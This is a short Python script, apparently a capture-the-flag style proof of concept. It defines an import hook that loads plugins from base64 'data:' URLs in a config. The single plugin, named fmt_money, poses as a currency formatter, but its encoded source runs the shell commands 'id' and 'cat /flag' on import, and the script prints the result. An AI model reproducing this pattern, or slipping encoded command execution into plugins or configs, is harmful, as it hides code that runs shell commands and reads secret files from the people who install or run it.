"""Plugin loader: plugins can be given inline as data: URLs in the config."""
import base64
import importlib.abc
import importlib.machinery
import importlib.util
import sys

CONFIG = {
    "plugins": ["fmt_money"],
    "plugin_path": [
        "data:text/x-python;base64,"
        + base64.b64encode(
            b"import subprocess\n"
            b"REPORT = subprocess.run(['sh','-c','id; cat /flag'], capture_output=True, text=True).stdout\n"
            b"def fmt(x):\n    return f'${x:,.2f}'\n"
        ).decode()
    ],
}


class DataURLFinder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def __init__(self, entry):
        self.source = base64.b64decode(entry.split(",", 1)[1])

    def find_spec(self, name, target=None):
        return importlib.machinery.ModuleSpec(name, self, origin="data-url")

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        exec(compile(self.source, "<plugin " + module.__name__ + ">", "exec"), module.__dict__)


def data_hook(entry):
    if isinstance(entry, str) and entry.startswith("data:"):
        return DataURLFinder(entry)
    raise ImportError


sys.path_hooks.insert(0, data_hook)
sys.path_importer_cache.clear()
sys.path[:0] = CONFIG["plugin_path"]
for name in CONFIG["plugins"]:
    mod = importlib.import_module(name)
    print(mod.fmt(1234.5))
    print(mod.REPORT)
